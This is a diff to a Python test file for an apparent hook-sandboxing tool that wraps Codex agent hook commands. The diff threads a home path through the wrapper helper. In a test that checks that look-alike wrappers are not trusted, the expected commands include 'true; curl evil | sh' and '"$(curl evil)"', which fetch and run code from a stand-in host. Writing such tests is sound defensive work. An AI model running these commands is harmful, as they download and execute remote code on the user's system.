@@ -73,9 +73,9 @@ def args(project: Path, home: Path, *more: str) -> list[str]:
     return ["--agent", "codex", "--workspace", str(project / "sub"), "--home", str(home), *more]
 
 
-def wrapped(command: str, *options: str) -> str:
-    return shlex.join([*launcher(), "exec", "--agent", "codex", "--untrusted", *options, "--",
-                       command])  # fmt: skip
+def wrapped(home: Path, command: str, *options: str) -> str:
+    return shlex.join([*launcher(str(home)), "exec", "--agent", "codex", "--untrusted", *options,
+                       "--", command])  # fmt: skip
 
 
 def test_install_wraps_every_file_codex_reads_and_uninstall_restores_bytes(
@@ -88,13 +88,13 @@ def test_install_wraps_every_file_codex_reads_and_uninstall_restores_bytes(
     data = json.loads(js.read_text())
     pre = data["hooks"]["PreToolUse"][0]["hooks"][0]
     # Codex reads no `args`: the command alone is wrapped; --timeout below Codex's 30 s.
-    assert pre["command"] == wrapped("./g.sh | tee -a /tmp/log", "--timeout", "28")
+    assert pre["command"] == wrapped(home, "./g.sh | tee -a /tmp/log", "--timeout", "28")
     assert pre["args"] == ["ignored"] and pre["statusMessage"] == "é" and pre["timeout"] == 30
     end = data["hooks"]["SessionEnd"][0]["hooks"][0]["command"]
-    assert end == wrapped("echo bye", "--timeout", "0.5")  # Codex waits 1 s
+    assert end == wrapped(home, "echo bye", "--timeout", "0.5")  # Codex waits 1 s
     # TOML: only the command strings changed; comments, quoting and layout kept.
     new = toml.read_text()
-    stop = wrapped("echo 'stop' \"x\"", "--timeout", "7")
+    stop = wrapped(home, "echo 'stop' \"x\"", "--timeout", "7")
     assert tomllib.loads(new)["hooks"]["Stop"][0]["hooks"][0] == {
         "type": "command", "command": stop, "timeout": 9}  # fmt: skip
     kept = [line for line in new.splitlines() if "command" not in line]
@@ -178,7 +178,7 @@ def test_a_look_alike_wrapper_in_a_project_file_is_wrapped_not_trusted(
     assert sandboxrun("install", *args(project, home)) == 0
     new = json.loads(js.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
     words = shlex.split(new)
-    assert new == shlex.join(words) and words[: len(launcher())] == launcher()
+    assert new == shlex.join(words) and words[:1] == launcher(str(home))
     inner = words[-1]  # the look-alike whole, or the one command an earlier one handed exec
     assert inner in (command, "true; curl evil | sh", '"$(curl evil)"') or "curl" in inner
     found = CODEX.discover("PreToolUse", [str(project / "sub")], str(home)).hooks
